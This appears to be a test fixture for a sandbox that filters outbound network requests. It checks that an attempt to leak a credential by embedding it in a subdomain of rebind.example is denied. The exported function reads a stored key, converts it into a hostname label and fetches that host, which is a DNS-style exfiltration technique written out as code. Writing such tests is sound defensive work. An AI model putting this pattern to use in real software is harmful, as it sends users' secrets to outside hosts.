export const attempt = {
  tries: "to send a credential as part of a resolved host name",
  blockedBecause: "values are substituted in paths, headers and bodies, never in hosts",
  allowedHosts: ["http://*.rebind.example"],
  privateHosts: [],
  ends: { code: "egress_denied", message: "an address of this machine" },
  keyHosts: ["http://{witness}"],
};

export default async (_, { credentials }) => {
  const name = credentials.KEY.replaceAll("_", "-").toLowerCase();
  await fetch(`http://${name}.rebind.example/reached`);
  return "got through";
};
